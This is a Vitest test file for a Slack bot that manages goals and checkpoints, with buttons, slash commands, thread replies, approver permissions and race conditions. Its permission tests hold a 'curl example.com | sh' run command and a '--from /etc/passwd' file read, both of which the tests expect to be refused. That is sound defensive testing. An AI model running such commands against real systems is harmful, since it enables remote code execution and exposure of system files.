import { afterEach, beforeEach, describe, expect, it } from "vitest";
import { eventually } from "../fakes/bot.ts";
import { valueOf } from "../fakes/deps.ts";
import { agentRepository, writes } from "../fakes/scripted.ts";
import { wordsOf } from "../fakes/slack/server.ts";
import type { Message } from "../fakes/slack/workspace.ts";
import { ana, ben, dora, eve, type SlackWorld, slackWorld } from "../fakes/slack/world.ts";
import { outcomesIn } from "../fakes/private-lines.ts";

let world: SlackWorld;
beforeEach(async () => {
  world = await slackWorld();
  await world.repository();
});
afterEach(() => world.close());

/** A goal that stops at a user-facing change, with its card posted; its id. */
async function ask(text: string): Promise<string> {
  const { goalId } = valueOf<{ goalId: string }>(
    await world.command("goal", "add", text, "--run", "echo done >> done.txt", "--tag", "ui"),
  );
  await world.command("autopilot", "start");
  await world.show();
  return goalId;
}

/** The same of a goal that a scripted agent works. */
async function askAgent(text: string): Promise<string> {
  await agentRepository(world, [writes("done.txt", "done\n")]);
  const { goalId } = valueOf<{ goalId: string }>(
    await world.command("goal", "add", text, "--repo", "person", "--tag", "ui"),
  );
  await world.command("autopilot", "start");
  await world.show();
  return goalId;
}

async function goalOf(
  goalId: string,
): Promise<{ status: string; state: string; instructions: { by: string; text: string }[]; ceilingUsd: number }> {
  return valueOf(await world.command("goal", "show", goalId));
}

/** The private line with these words, once it has been said. */
async function told(userId: string, words: string): Promise<string> {
  return await eventually(`${userId} is told ${words}`, async () => {
    return world.slack.ephemerals.find((each) => each.userId === userId && !each.isPublic && each.text.includes(words))
      ?.text;
  });
}

const checkpointCard = (goal: string) => world.slack.message(`: ${goal}`);

describe("one person's day in Slack", () => {
  it("Proceed resumes the goal and settles the card with who, where and after how long", async () => {
    const goalId = await ask("Round prices up");
    const card = checkpointCard("Round prices up");
    expect(card.text).toMatch(/^Checkpoint: user-facing change: Round prices up\. Answer by <!date\^/);
    world.advance(3 * 60_000);

    const seen = await world.slack.people.click(ana, card, "proceed");
    await world.work();
    await world.show();

    expect(seen.acknowledged).toBe(true);
    expect((await goalOf(goalId)).status).toBe("complete");
    const settled = checkpointCard("Round prices up");
    expect(settled.ts).toBe(card.ts);
    expect(wordsOf(settled.blocks)).toContain("*Proceed*, by @ana in Slack,");
    expect(wordsOf(settled.blocks)).toContain("after 3 min");
    expect(JSON.stringify(settled.blocks)).not.toContain('"button"');
    expect(world.slack.message("Goal complete: Round prices up").ts).not.toBe(card.ts);
    expect(world.slack.ephemerals).toEqual([]);
  });

  it("the buttons of messages that an older version posted still work", async () => {
    const goals = [await ask("Round prices down"), await askAgent("Rename the form")] as const;
    const older = (goal: string): Message => {
      const message = checkpointCard(goal);
      const changed = JSON.stringify(message.blocks, (key, value: unknown) => {
        const id = key === "value" ? /cp-[0-9a-f]+/.exec(String(value)) : null;
        return id === null ? value : `${id[0]}.1`;
      });
      return { ...message, blocks: JSON.parse(changed) as Message["blocks"] };
    };

    await world.slack.people.click(ana, older("Round prices down"), "proceed");
    await world.slack.people.click(ana, older("Rename the form"), "modify");
    await eventually("the filled form", async () =>
      JSON.stringify(world.slack.people.openView(ana)?.view).includes('"input"'),
    );
    await world.slack.people.submit(ana, { instructions: "call it Buy" });
    await world.work();

    for (const goalId of goals) expect(await goalOf(goalId)).toMatchObject({ status: "complete" });
  });

  it("Skip defers the goal", async () => {
    const goalId = await ask("Change the colours");

    await world.slack.people.click(ana, checkpointCard("Change the colours"), "skip");
    await world.show();

    expect((await goalOf(goalId)).status).toBe("deferred");
    expect(wordsOf(checkpointCard("Change the colours").blocks)).toContain("*Skip*, by @ana in Slack");
  });

  it("Modify opens a form, keeps it open with what is wrong, and goes on with what was asked", async () => {
    const goalId = await askAgent("Rename the button");
    await world.slack.people.click(ana, checkpointCard("Rename the button"), "modify");
    const form = await eventually("the filled form", async () => {
      const view = world.slack.people.openView(ana);
      return JSON.stringify(view?.view).includes('"input"') ? view : null;
    });
    expect(JSON.stringify(form.view)).toContain("Rename the button");

    const wrong = await world.slack.people.submit(ana, { instructions: "call it Buy", budget: "lots" });
    const empty = await world.slack.people.submit(ana, {});
    const right = await world.slack.people.submit(ana, { instructions: "call it Buy", budget: "$7.50" });
    await world.work();
    await world.show();

    expect(wrong.answer).toMatchObject({
      response_action: "errors",
      errors: { budget: 'found "lots", expected a number from 0.01 to 1000000' },
    });
    expect(empty.answer).toMatchObject({
      response_action: "errors",
      errors: { instructions: "Modify needs instructions, criteria or a budget" },
    });
    expect(right).toEqual({ acknowledged: true, answer: {} });
    expect(await goalOf(goalId)).toMatchObject({
      status: "complete",
      instructions: [{ by: "@ana", text: "call it Buy" }],
      ceilingUsd: 7.5,
    });
    expect(wordsOf(world.slack.message("change: Rename the button").blocks)).toContain("*Modify*, by @ana");
  });

  it("Add criteria opens a form on finished work that nobody has proven, and the system proves it [F-213]", async () => {
    const { goalId } = valueOf<{ goalId: string }>(
      await world.command("goal", "add", "Write it down", "--run", "echo done > done.txt"),
    );
    await world.command("autopilot", "start");
    await world.work();
    await world.show();
    const card = () => world.slack.message("Goal complete: Write it down");
    expect(wordsOf(card().blocks)).toContain("claimed");

    await world.slack.people.click(ana, card(), "prove");
    const form = await eventually("the filled form", async () => {
      const view = world.slack.people.openView(ana);
      return JSON.stringify(view?.view).includes('"input"') ? view : null;
    });
    expect(JSON.stringify(form.view)).toContain("Write it down");
    const criteria =
      "#### AC-1: It is written\n\n**Verification**:\n```yaml\nmethod: bash\ncommand: grep -q done done.txt\n```\n";
    const wrong = await world.slack.people.submit(ana, { criteria: "#### AC-1: No way to see it\n" });
    const right = await world.slack.people.submit(ana, { criteria });
    await world.work();
    await world.show();

    expect(wrong.answer).toMatchObject({
      response_action: "errors",
      errors: { criteria: expect.stringContaining("AC-1") as string },
    });
    expect(right).toEqual({ acknowledged: true, answer: {} });
    expect(await world.command("goal", "show", goalId)).toMatchObject({
      value: { status: "complete", tag: "verified", criteria: [{ id: "AC-1", status: "pass" }] },
    });
    expect(JSON.stringify(card().blocks)).not.toContain("Add criteria");
  });

  it("Pause keeps the buttons and says who; Proceed resumes", async () => {
    const goalId = await ask("Move the logo");

    await world.slack.people.click(ana, checkpointCard("Move the logo"), "pause");
    await world.show();
    const paused = checkpointCard("Move the logo");
    await world.slack.people.click(ben, paused, "proceed");
    await world.work();
    await world.show();

    expect(wordsOf(paused.blocks)).toContain("Session paused by @ana; answering resumes it.");
    expect((await goalOf(goalId)).status).toBe("complete");
    expect(wordsOf(checkpointCard("Move the logo").blocks)).toContain("*Proceed*, by @ben");
  });

  it("/standup, /weekly and /cos answer privately, and --public shares [F-110]", async () => {
    const goalId = await ask("Add a footer");

    const standup = await world.slack.people.type(eve, "/standup", "");
    const shared = await world.slack.people.type(eve, "/standup", "--PUBLIC");
    const weekly = await world.slack.people.type(eve, "/weekly", "--public");
    const help = await world.slack.people.type(eve, "/cos", "");
    const added = await world.slack.people.type(
      ana,
      "/cos",
      "goal add “Sort the list” --tag ui —run 'sort -o list list'",
    );
    const why = await world.slack.people.type(eve, "/cos", `why ${goalId}`);
    const wrong = await world.slack.people.type(eve, "/cos", "goal show");
    const unknown = await world.slack.people.type(eve, "/cos", "dance");

    expect(standup.answer).toMatchObject({
      response_type: "ephemeral",
      text: expect.stringContaining("1 waiting for a person") as string,
    });
    expect(JSON.stringify(standup.answer)).toContain(`<https://example.slack.com/archives/C0000MAIN/p`);
    // Who is mentioned in what everybody reads is notified.
    expect(JSON.stringify(standup.answer)).toContain("<@");
    expect(shared.answer).toMatchObject({ response_type: "in_channel" });
    expect(JSON.stringify(shared.answer)).not.toContain("<@");
    expect(weekly.answer).toMatchObject({ response_type: "in_channel" });
    expect(wordsOf(help.answer["blocks"] as never)).toContain("cos autopilot start");
    expect(JSON.stringify(added.answer)).toMatch(/goal-[0-9a-f]{8}/);
    expect(JSON.stringify(why.answer)).toContain("asked: user-facing change");
    expect(wrong.answer["text"]).toContain("ID is missing");
    expect(unknown.answer["text"]).toContain("Unknown command: dance");
    const goals = valueOf<{ content: string }[]>(await world.command("goals"));
    expect(goals.map((goal) => goal.content)).toContain("Sort the list");

    // Within a text it is the text's, or refused; nothing is shared.
    const inText = await world.slack.people.type(ana, "/cos", "goal add -- Document --public");
    const between = await world.slack.people.type(ana, "/cos", "goal add Document the --public flag");
    expect(inText.answer).toMatchObject({ response_type: "ephemeral" });
    expect(between.answer["text"]).toContain("Unknown option --public");
    expect(JSON.stringify(await world.command("goals"))).toContain("Document --public");
  });

  it("a typed line is read back as it was understood, and what cannot be read is refused [F-110]", async () => {
    const typed = `goal add Don't break totals —tag ui --cost 9 --run="echo \\"it's done\\" > done.txt"`;
    const added = await world.slack.people.type(ana, "/cos", typed);
    const open = await world.slack.people.type(ana, "/cos", 'goal add "Never closed --tag ui');

    const words = wordsOf(added.answer["blocks"] as never);
    for (const each of ["Don't break totals", "ui", "$9.00", `echo "it's done" &gt; done.txt`])
      expect(words).toContain(each);
    expect(open.answer["text"]).toContain("is never closed");
    const goals = valueOf<{ goalId: string; content: string }[]>(await world.command("goals"));
    expect(goals.map((goal) => goal.content)).toEqual(["Don't break totals"]);
    const [row] = (
      await world.deps.database.pool.query("select tags, estimate_micro_usd::int, run_command from cos.goals")
    ).rows;
    expect(row).toEqual({ tags: ["ui"], estimate_micro_usd: 9_000_000, run_command: `echo "it's done" > done.txt` });
  });

  it("`ok` in the thread of a question answers it; other words are kept and marked", async () => {
    const goalId = await ask("Shorten the title");
    const card = checkpointCard("Shorten the title");

    const comment = await world.slack.people.reply(eve, card, "is that <really> needed & wanted?");
    await eventually("the first mark", async () => world.slack.reactions.length === 1);
    const strangers = await world.slack.people.reply(eve, card, "ok");
    await told(eve, "Only approvers may do that");
    const answer = await world.slack.people.reply(ana, card, "OK.");
    await eventually("the mark", async () => world.slack.reactions.length === 2);
    await world.work();
    await world.show();

    expect(world.slack.reactions).toEqual([
      { ts: comment.ts, name: "eyes" },
      { ts: answer.ts, name: "white_check_mark" },
    ]);
    expect(world.slack.ephemerals).toMatchObject([
      { userId: eve, threadTs: card.ts, text: expect.stringContaining("Only approvers may do that") as string },
    ]);
    expect(strangers.ts).not.toBe(answer.ts);
    expect((await goalOf(goalId)).status).toBe("complete");
    const { timeline } = valueOf<{ timeline: { event: string; detail: { text?: string } }[] }>(
      await world.command("why", goalId),
    );
    expect(timeline.filter((row) => row.event.startsWith("reply")).map((row) => row.detail.text)).toEqual([
      "is that <really> needed & wanted?",
    ]);
  });

  it("`modify: …` in the thread is Modify where no form fits", async () => {
    const goalId = await askAgent("Use a darker blue");

    await world.slack.people.reply(ana, checkpointCard("Use a darker blue"), "modify: use navy, not black");
    await eventually("the mark", async () => world.slack.reactions.length === 1);

    expect((await goalOf(goalId)).instructions).toMatchObject([{ by: "@ana", text: "use navy, not black" }]);
  });

  it("changed and deleted replies are kept and decide nothing; foreign threads and our own words are left alone", async () => {
    const goalId = await ask("Widen the margins");
    const card = checkpointCard("Widen the margins");
    const replies = async (count: number) =>
      await eventually(`${count} rows`, async () => {
        const why = valueOf<{ timeline: { event: string; detail: { text?: string } }[] }>(
          await world.command("why", goalId),
        );
        // What is read back decides nothing either.
        const found = why.timeline.filter((row) => row.event.startsWith("reply") && row.event !== "reply.read");
        return found.length === count ? found : null;
      });
    const comment = await world.slack.people.reply(ana, card, "hmm");
    await replies(1);
    await world.slack.people.edit(comment, "ok");
    await replies(2);
    await world.slack.people.remove(comment);
    const stray = await world.slack.people.reply(ana, { ...card, ts: "1.000001", threadTs: null }, "ok");
    const timeline = await replies(3);

    expect(timeline.map((row) => [row.event, row.detail.text])).toEqual([
      ["reply.said", "hmm"],
      ["reply.edited", "ok"],
      ["reply.deleted", "ok"],
    ]);
    expect(world.slack.reactions.some((each) => each.ts === stray.ts)).toBe(false);
    expect((await goalOf(goalId)).status).toBe("blocked");
  });

  it("the app's home shows what waits, with working buttons, what runs and what today costs", async () => {
    const goalId = await ask("Swap the icons");
    await world.slack.people.openHome(ana);
    const home = await eventually("the home", async () => world.slack.homes.get(ana));
    const shown = wordsOf(home.view["blocks"] as never);
    expect(shown).toContain("1 decision waiting for you");
    expect(shown).toContain("Swap the icons");
    expect(shown).toContain("$0.00 of $30.00");
    expect(JSON.stringify(home.view)).toContain("https://example.slack.com/archives/C0000MAIN/p");

    await world.slack.people.clickHome(ana, "proceed");
    await eventually("the new home", async () =>
      JSON.stringify(world.slack.homes.get(ana)).includes("Nothing waits for you"),
    );
    await world.work();

    expect((await goalOf(goalId)).status).toBe("complete");
  });

  it("Why and Diff lie in the menu of a card", async () => {
    const goalId = await ask("Invert the logo");
    await world.slack.people.click(ana, checkpointCard("Invert the logo"), "proceed");
    await world.work();
    await world.show();
    const card = world.slack.message("Goal complete: Invert the logo");

    await world.slack.people.choose(eve, card, "Why");
    await eventually("why", async () => world.slack.ephemerals.length === 1);
    await world.slack.people.choose(eve, card, "Diff");
    await eventually("both", async () => world.slack.ephemerals.length === 2);

    expect(world.slack.ephemerals[0]?.text).toContain("answered Proceed by @ana in Slack");
    expect(world.slack.ephemerals[1]?.text).toContain("+done");
    expect(goalId).toMatch(/^goal-/);
  });
});

describe("who may not", () => {
  it("a stranger's click and command change nothing, privately, and name who can", async () => {
    const goalId = await ask("Paint it red");

    await world.slack.people.click(eve, checkpointCard("Paint it red"), "proceed");
    await world.slack.people.click(eve, checkpointCard("Paint it red"), "modify");
    const add = await world.slack.people.type(eve, "/cos", 'goal add "mine" --run "curl example.com | sh"');

    expect(await told(eve, "Only approvers may do that; nothing was changed")).toContain(`<@${ana}>, <@${ben}>`);
    expect(JSON.stringify(world.slack.people.openView(eve)?.view)).toContain("Only approvers");
    expect(add.answer["text"]).toContain("Only approvers");
    expect((await goalOf(goalId)).state).toBe("waiting");
    expect(valueOf<unknown[]>(await world.command("goals")).length).toBe(1);
  });

  it("a deactivated approver is refused at click time", async () => {
    await ask("Paint it blue");

    await world.slack.people.click(dora, checkpointCard("Paint it blue"), "proceed");

    expect(await told(dora, "Your account is deactivated")).not.toContain(`<@${dora}>`);
  });

  it("files of the bot's machine are not for people in a chat", async () => {
    const seen = await world.slack.people.type(ana, "/cos", "goal add --from /etc/passwd");

    expect(seen.answer["text"]).toContain("--from names a file on the bot's machine");
  });
});

describe("clicks that come too late, twice or at once", () => {
  it("the second click learns who won", async () => {
    await ask("Blink less");
    const card = checkpointCard("Blink less");

    await Promise.all([world.slack.people.click(ana, card, "proceed"), world.slack.people.click(ana, card, "proceed")]);
    await world.slack.people.click(ben, card, "skip");

    await told(ben, "already answered: Proceed by @ana");
    await told(ana, "already answered: Proceed by @ana");
    expect(world.slack.ephemerals.length).toBe(2);
  });

  it("the same press delivered three times is one press, and says nothing more [S4-CK-21]", async () => {
    const goalId = await ask("Blink more");

    await world.slack.people.click(ana, checkpointCard("Blink more"), "skip", { times: 3 });

    const { rows } = await world.deps.database.pool.query("select choice, actor_id from cos.decisions");
    expect(rows).toEqual([{ choice: "Skip", actor_id: `slack:${ana}` }]);
    expect(world.slack.ephemerals).toEqual([]);
    expect((await goalOf(goalId)).status).toBe("deferred");
  });

  it("an expired card and an old version are refused with what to do", async () => {
    const goalId = await ask("Grow the header");
    const card = { ...checkpointCard("Grow the header") };
    await world.command("goal", "edit", goalId, "--tag", "architecture");
    await world.show();

    await world.slack.people.click(ana, card, "proceed");
    await told(ana, "changed since you looked (now version 2)");

    world.advance(25 * 60 * 60_000);
    await world.tick();
    await world.slack.people.click(ana, card, "skip");
    await world.show();

    expect(await told(ana, "expired")).toContain(`/cos goal resume ${goalId}`);
    expect(wordsOf(checkpointCard("Grow the header").blocks)).toContain("*No answer* by");
  });

  it("two people in the same millisecond, through two bots: one wins, the other learns it", async () => {
    await world.anotherBot();
    for (let round = 0; round < 5; round += 1) {
      await ask(`Shared ${round}`);
      const card = checkpointCard(`Shared ${round}`);
      const outcomes = () => outcomesIn(world.slack.ephemerals);
      const before = outcomes().length;

      const [first, second] = await Promise.all([
        world.slack.people.click(ana, card, "proceed"),
        world.slack.people.click(ben, card, "skip"),
      ]);

      expect([first.acknowledged, second.acknowledged]).toEqual([true, true]);
      await eventually("the loser's line", async () => outcomes().length === before + 1);
      expect(outcomes().at(-1)?.text).toMatch(/already answered: (Proceed by @ana|Skip by @ben)/);
      await world.work();
    }
    const { rows } = await world.deps.database.pool.query("select count(*)::int as n from cos.decisions where settles");
    expect(rows).toEqual([{ n: 5 }]);
  });
});
